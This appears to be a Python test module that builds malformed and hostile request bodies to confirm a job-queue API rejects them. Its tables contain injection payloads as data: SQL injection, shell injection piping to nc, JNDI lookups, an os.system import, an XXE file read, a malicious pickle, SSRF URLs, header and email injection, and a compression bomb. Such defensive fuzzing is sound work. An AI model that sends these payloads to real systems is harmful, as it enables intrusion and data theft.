"""Bodies that the service must refuse: small tables, multiplied into requests for a job or many."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from typing import Any

from tests.hostile.good import EMAIL, TEXT
from tests.hostile.inside import PLACES
from tests.hostile.mails import around, encoded_words
from tests.hostile.wire import HARMLESS, JSON, Hostile, post

NDJSON = "application/x-ndjson"

FIELDS = ("kind", "payload", "max_attempts", "idempotency_key", "queue", "priority", "run_at", "delay_seconds")
FIELDS += ("timeout_seconds",)

# Text that is wrong in every field of a request, each for somebody else's sake.
FRAGMENTS = {
    "sql: always true": "' OR 1=1 --",
    "sql: second statement": "'; DROP TABLE haulier.job; --",
    "sql: sleep": "1); SELECT pg_sleep(10); --",
    "sql: dollar quotes": "$$; SELECT 1; $$",
    "sql: backslash": "\\'; SELECT 1",
    "sql: copy to program": "'; COPY haulier.job TO PROGRAM 'id'; --",
    "python: percent": "%(kind)s %s %% %n",
    "python: braces": "{0} {} {name} {self.__class__}",
    "python: import": "__import__('os').system('id') x",
    "template: jinja": "{{ 7*7 }} {% raw %} {{ config }}",
    "template: erb": "<%= 7*7 %>",
    "template: el": "${7*7} #{7*7} *{7*7}",
    "template: jndi": "${jndi:ldap://127.0.0.1:{ear}/a} x",
    "html: script": "<script>alert(1)</script> x",
    "html: attribute": '"><img src=x onerror=alert(1)>',
    "shell": "; $(id) `id` | nc 127.0.0.1 {ear}",
    "path": "../../../../etc/passwd ..\\..\\win.ini",
    "lines: header": "a\r\nSet-Cookie: x=1",
    "lines: log": "a\n2026-01-01T00:00:00Z INFO forged",
    "lines: unicode": "a\u2028b\u2029c\u0085d",
    "terminal": "\x1b[31mred\x07 \x1b]0;title\x07",
    "unicode: right to left": "\u202egnp.exe",
    "unicode: full width": "ｓｅｎｄ＿ｅｍａｉｌ",
    "unicode: dotless": "ıİſK",
    "unicode: byte order mark": "\ufeffsend_email",
    "unicode: combining": "e" + "\u0301" * 200,
    "unicode: beyond the plane": "👩‍👩‍👧‍👦 𝓴𝓲𝓷𝓭",
    "unicode: noncharacters": "\uffff\ufffe\U0010ffff",
    "long": "x y " * 20_000,
}
# Values of the wrong type, or far outside, in every field.
WRONG = {"true": True, "an array": [], "an object": {"a": {"b": []}}, "2^64-1": 2**64 - 1, "-2^63": -(2**63)}
WRONG |= {"-1.5": -1.5, "1e300": 1e300, "empty": ""}

MALFORMED = {
    "nothing": "",
    "a space": " ",
    "half": TEXT[:-1],
    "twice": TEXT + TEXT,
    "trailing comma": '{"kind": "send_email",}',
    "comment": '{"kind": "send_email" /* x */}',
    "single quotes": "{'kind': 'send_email'}",
    "no quotes": "{kind: send_email}",
    "NaN": '{"kind": NaN}',
    "Infinity": '{"max_attempts": Infinity}',
    "-Infinity": '{"max_attempts": -Infinity}',
    "1e400": '{"delay_seconds": 1e400}',
    "65 bits": '{"max_attempts": 18446744073709551616}',
    "5,000 digits": '{"max_attempts": ' + "9" * 5000 + "}",
    "100,000 digits": '{"max_attempts": ' + "9" * 100_000 + "}",
    "leading zero": '{"max_attempts": 012}',
    "hexadecimal": '{"max_attempts": 0x10}',
    "plus": '{"max_attempts": +1}',
    "duplicate key": TEXT[:-1] + ', "kind": "send_email"}',
    "duplicate key, escaped": TEXT[:-1] + ', "k\\u0069nd": "send_email"}',
    "NUL, escaped": '{"kind": "send_email\\u0000"}',
    "NUL": '{"kind": "send_email\x00"}',
    "half a surrogate pair": '{"kind": "\\ud800"}',
    "the other half": '{"kind": "\\udc00\\ud800"}',
    "bad escape": '{"kind": "\\x41"}',
    "raw line feed": '{"kind": "a\nb"}',
    "64 arrays too many": '{"x": ' + "[" * 128 + "]" * 128 + "}",
    "100,000 arrays": "[" * 100_000 + "]" * 100_000,
    "100,000 arrays, open": "[" * 100_000,
    "100,000 objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "UTF-8 cut short": b'{"kind": "\xe2\x82"}',
    "overlong slash": b'{"kind": "\xc0\xaf"}',
    "surrogate in UTF-8": b'{"kind": "\xed\xa0\x80"}',
    "beyond Unicode": b'{"kind": "\xf5\x80\x80\x80"}',
    "latin-1": b'{"kind": "\xe9"}',
    "byte order mark": b"\xef\xbb\xbf" + TEXT.encode(),
    "UTF-16": TEXT.encode("utf-16"),
    "UTF-32": TEXT.encode("utf-32"),
    "UTF-7": b'+AHs-"kind": 1+AH0-',
    "gzip that does not say so": gzip.compress(TEXT.encode()),
    "zeros": b"\x00" * 1000,
    "pickle": b"\x80\x04cposix\nsystem\n(S'id'\ntR.",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a mebibyte and one": TEXT + " " * (1024 * 1024 - len(TEXT) + 1),
    "an array": "[]",
    "a number": "5",
    "a string": '"send_email"',
    "null": "null",
    "10,000 unknown fields": json.dumps({**EMAIL, **{f"f{n}": n for n in range(10_000)}}),
    "prototype": '{"__proto__": {"kind": "send_email"}, "constructor": 1}',
    "payload beyond 256 KiB": json.dumps({"kind": "summarize_text", "payload": {"text": "x" * 300_000}}),
    "payload of 512 KiB in two-byte letters": json.dumps(
        {"kind": "summarize_text", "payload": {"text": "é" * 150_000}}
    ),
}

# (kind, field, values): each makes a payload that is else right wrong.
BASES: dict[str, dict[str, Any]] = {
    "send_email": EMAIL["payload"],
    "resize_image": {"source": "https://example.com/a.png"},
    "summarize_text": {"text": "Hi."},
    "webhook_delivery": {"url": "https://example.com/", "body": 1},
}
ADDRESSES = ["a@b.c\r\nBcc: x@y.z", "a@b.c\nX: y", "a@b.c\x00", "a@b.c,x@y.z", "<a@b.c>", "a b@c.d", "@b.c", "a@", "a"]
ADDRESSES += ["a@b.c\u2028Bcc: x@y.z", "a" * 400 + "@b.c", "a@b.c> RCPT TO:<x@y.z", "a@[1.2.3.4\r\n]", '"a\r\n"@b.c']
ENCODED = [address for word in list(encoded_words())[::30] for address in around(word)]
URLS = ["", "a", "//a/", "ftp://a/", "file:///etc/passwd", "gopher://127.0.0.1:{ear}/_x", "javascript:alert(1)"]
URLS += [
    "http://",
    "http:///x",
    "http://a b/",
    "http://a/\r\nX: y",
    "http://a\\@b/",
    "http://a/\x00",
    "http:a",
    "data:,x",
]
URLS += ["http://a/" + "x" * 3000, "jar:http://a!/", "ldap://127.0.0.1:{ear}/", "\thttp://a/"]
# A source may be these: a run judges them. A long one is long for the sake of data: URLs.
TAKEN = ("file:///", "data:,", "http://a/xxx")
HEADERS: list[Any] = [{"Host": "x"}, {"content-length": "0"}, {"Transfer-Encoding": "chunked"}, {"Connection": "x"}]
HEADERS += [{"Webhook-Signature": "x"}, {"X": "a\r\nY: b"}, {"X": "a\x00"}, {"X\r\nY": "b"}, {"X Y": "b"}, {"": "x"}]
HEADERS += [{"X:": "b"}, {"X": "é"}, {"X": 1}, {"X": ["a"]}, {f"x{n}": "y" for n in range(60)}, {"X": "y" * 5000}, []]
PAYLOADS: list[tuple[str, str, list[Any]]] = [
    ("send_email", "to", [*ADDRESSES, *ENCODED]),
    *(("send_email", field, ENCODED[::3]) for field in ("cc", "bcc", "reply_to")),
    ("send_email", "cc", [["a@b.c"] * 101, ["a@b.c\r\nX: y"], {"a": 1}, [["a@b.c"]], 5]),
    ("send_email", "reply_to", ["a@b.c\r\nX: y", "x"]),
    ("send_email", "subject", ["a\r\nBcc: x@y.z", "a\nb", "a\x0bb", "a\x85b", "a\u2028b", "x" * 1000, 5, None, ["a"]]),
    ("send_email", "body", [5, None, {"a": 1}, "a\x00"]),
    ("webhook_delivery", "url", URLS),
    ("webhook_delivery", "headers", HEADERS),
    ("webhook_delivery", "event", ["a\r\nb", "a b", "", "x" * 200, 5, "é"]),
    ("webhook_delivery", "timeout", [1]),
    ("resize_image", "source", [*(url for url in URLS if not url.startswith(TAKEN)), "data:x"]),
    ("resize_image", "target", URLS),
    ("resize_image", "width", [0, -1, 7001, 2**63, 1.5, "640", True]),
    ("resize_image", "fit", ["stretch'", "", 5, ["cover"]]),
    ("resize_image", "format", ["svg", "eps", "pdf", "PNG", "../png"]),
    ("resize_image", "quality", [0, 101, -(2**63), "85"]),
    ("summarize_text", "text", ["", None, 5, ["a"], "a\x00"]),
    ("summarize_text", "sentences", [0, 51, 2**64 - 1, "3", 1.5]),
    ("summarize_text", "language", ["xx", "../en", "en'", 5]),
]


def bodies() -> Iterator[Hostile]:
    """Yield requests for a job that are wrong in what they hold."""
    for field in FIELDS:
        for title, value in {**FRAGMENTS, **WRONG}.items():
            yield Hostile(f"{field}: {title}", post("/jobs", {**EMAIL, field: value}))
    for title, value in {**FRAGMENTS, **WRONG}.items():
        # Most of the texts may be tags, but none may be empty, and none twice.
        yield Hostile(f"a tag: {title}", post("/jobs", {**EMAIL, "tags": ["", value, value]}))
        if value != []:
            yield Hostile(f"tags: {title}", post("/jobs", {**EMAIL, "tags": value}))
    for title, text in MALFORMED.items():
        yield Hostile(f"body: {title}", post("/jobs", text))
    for kind, field, values in PAYLOADS:
        for at, value in enumerate(values):
            payload = {**BASES[kind], field: value}
            yield Hostile(f"{kind}.{field} {at}: {value!r:.60}", post("/jobs", {"kind": kind, "payload": payload}))
    for title, text in FRAGMENTS.items():
        yield Hostile(f"an unknown field: {title}", post("/jobs", {**EMAIL, text[:200]: 1}))
        yield Hostile(f"an unknown kind: {title}", post("/jobs", {"kind": text, "payload": {text[:200]: text}}))
    # Were they looked up at the door, they would reach inside from here already; one other fault keeps them out.
    for place in PLACES:
        job = {"kind": "webhook_delivery", "payload": {"url": place, "body": 1}, "max_attempts": 0}
        yield Hostile(f"inside, and another fault: {place}", post("/jobs", job))


BATCHES: dict[str, tuple[Any, str]] = {
    "empty": ([], JSON),
    "an object": (EMAIL, JSON),
    "null": ("null", JSON),
    "1,001 jobs": ([EMAIL] * 1001, JSON),
    "one bad among good ones": ([EMAIL] * 20 + [{}], JSON),
    "a bad one first": ([5, EMAIL], JSON),
    "nested arrays": ([[EMAIL]], JSON),
    "open": (f"[{TEXT}", JSON),
    "trailing comma": (f"[{TEXT},]", JSON),
    "no comma": (f"[{TEXT}{TEXT}]", JSON),
    "open brackets": ("[" * 50_000, JSON),
    "something behind": (f"[{TEXT}]x", JSON),
    "a key that is none": ([{**EMAIL, "idempotency_key": "a\nb"}], JSON),
    "a mismatch within": ([{**EMAIL, "idempotency_key": "k"}, {**EMAIL, "priority": 1, "idempotency_key": "k"}], JSON),
    "a long one": ([{**EMAIL, "x": "y" * 1_100_000}], JSON),
    "16 MiB of spaces": (b" " * (16 * 1024 * 1024 + 1), JSON),
    "16 MiB of lines": (b"\n" * (16 * 1024 * 1024 + 1), NDJSON),
    "10,001 lines": ("{}\n" * 10_001, NDJSON),
    "no line": ("\n\n\n", NDJSON),
    "a bad line": (f"{TEXT}\n{{\n", NDJSON),
    "lines that are numbers": ("1\n2\n3\n", NDJSON),
    "line separators": (f"{TEXT}\u2028{TEXT}", NDJSON),
    "carriage returns": (f"{TEXT}\r{TEXT}", NDJSON),
    "bad UTF-8 in a line": (b"\xff\n", NDJSON),
    "an array in a line": (f"[{TEXT}]\n", NDJSON),
    "a NUL between": (f"{TEXT}\n\x00\n{TEXT}", NDJSON),
}


def batches() -> Iterator[Hostile]:
    """Yield batches of which not one job may be stored."""
    for title, (content, content_type) in BATCHES.items():
        yield Hostile(f"batch: {title}", post("/jobs/batch", content, content_type=content_type))
    # In a batch that is not atomic each job is by itself; here is none that is right.
    for title, text in FRAGMENTS.items():
        items = [{**EMAIL, "queue": text}, text, {"kind": text}]
        yield Hostile(f"not atomic: {title}", post("/jobs/batch?atomic=false", items), allowed=HARMLESS)


TYPES = ["", "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data"]
TYPES += [
    "multipart/form-data; boundary=" + "x" * 5000,
    "application/json; charset=utf-16",
    "application/json;charset=x",
]
TYPES += ["application/jsonp", "application/json, text/html", "application", "*/*", "application/*", "a/b;" * 500]
TYPES += ["application/vnd.api+json", "application/octet-stream", "application/json\x0b", "image/svg+xml"]
ENCODINGS = {"gzip": gzip.compress(TEXT.encode()), "deflate": zlib.compress(TEXT.encode()), "br": b"\x8b\x02\x80"}
ENCODINGS |= {
    "zstd": b"(\xb5/\xfd",
    "compress": b"\x1f\x9d",
    "gzip, gzip": b"",
    "x": TEXT.encode(),
    "identity;q=0": b"{}",
}
ENCODINGS |= {"GZIP": gzip.compress(b"\x00" * 50_000_000)}


def types() -> Iterator[Hostile]:
    """Yield bodies in types and encodings that are not read."""
    for path in ("/jobs", "/jobs/batch"):
        for content_type in TYPES:
            yield Hostile(f"{path} as {content_type:.60}", post(path, TEXT, content_type=content_type))
        for encoding, content in ENCODINGS.items():
            yield Hostile(f"{path} in {encoding}", post(path, content, headers={"Content-Encoding": encoding}))
    yield Hostile("without a type", post("/jobs", TEXT, content_type=None))
